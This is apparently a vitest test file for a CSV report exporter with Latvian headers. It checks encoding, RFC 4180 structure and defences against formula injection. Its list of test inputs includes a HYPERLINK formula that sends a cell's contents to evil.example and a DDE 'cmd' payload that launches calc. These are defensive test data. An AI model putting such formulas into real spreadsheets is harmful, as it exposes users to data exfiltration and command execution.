import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvOf } from '../../src/reports/csv.ts'
import { made, served } from './making.ts'

/** What a spreadsheet makes of it: RFC 4180, read letter by letter. */
function read(csv: string): readonly (readonly string[])[] {
  const lines: string[][] = [['']]
  let quoted = false
  for (let i = 0; i < csv.length; i++) {
    const line = lines.at(-1) ?? []
    const sign = csv[i] ?? ''
    if (quoted && sign === '"' && csv[i + 1] === '"') line.push(`${line.pop()}${csv[i++]}`)
    else if (sign === '"') quoted = !quoted
    else if (!quoted && sign === ',') line.push('')
    else if (!quoted && sign === '\r' && csv[i + 1] === '\n') {
      lines.push([''])
      i++
    } else line.push(`${line.pop()}${sign}`)
  }
  return lines.slice(0, -1)
}

const rows = [served('2026-03-30T12:00', 30), served('2026-03-30T13:00', 30, { service: 'consultation' })]
const namedBy = (name: string) => read(csvOf(made(rows, 'lv', name)).slice(1))
const nameIn = (lines: readonly (readonly string[])[]) => lines.find((line) => line[2] === 'case1')?.[0]

describe('the report for a spreadsheet', () => {
  it('says first that it is UTF-8, so that Latvian letters arrive', () => {
    const csv = csvOf(made(rows, 'lv'))
    expect(Buffer.from(csv).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
    expect(csv).toContain('Mēnesis,Pakalpojums,Pakalpojumi,Cilvēki,Stundas,Minūtes,Ziņas')
  })

  it('every line has as many cells as the first, and ends as the standard says', () => {
    const csv = csvOf(made(rows))
    const lines = read(csv.slice(1))
    expect(new Set(lines.map((line) => line.length))).toEqual(new Set([10]))
    expect(csv.endsWith('\r\n')).toBe(true)
    expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/)
    expect(lines.map(([first]) => first)).toContain('By funding line')
  })

  it('holds the numbers as numbers', () => {
    const total = read(csvOf(made(rows)).slice(1)).find((line) => line[0] === 'Total' && line[1] === 'all')
    expect(total).toEqual(['Total', 'all', '2', '1', '1:00', '60', '24', '', '', ''])
  })

  it.each([
    '=1+1',
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "+371 2'5",
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '\u00a0=1+1',
    '＝1+1',
    '\t',
  ])('what would be a formula is text: %j', (name) => {
    expect(nameIn(namedBy(name))).toBe(`'${name}`)
  })

  it('whatever somebody is called, they are one cell, and no formula', () => {
    const property = fc.property(fc.string({ unit: 'binary', minLength: 1, maxLength: 12 }), (name) => {
      const cell = nameIn(namedBy(name)) ?? ''
      expect([name, `'${name}`]).toContain(cell)
      expect(cell).not.toMatch(/^[=+\-@\t\r\n]/)
    })
    fc.assert(property, { numRuns: 100, examples: [['a,b'], ['a"b'], ['"'], ['a\r\nb'], ['=","'], ["'"]] })
  })

  it('with nothing in it, it says what to do', () => {
    expect(read(csvOf(made([])).slice(1)).at(-1)?.[0]).toMatch(/Choose other days/)
  })
})
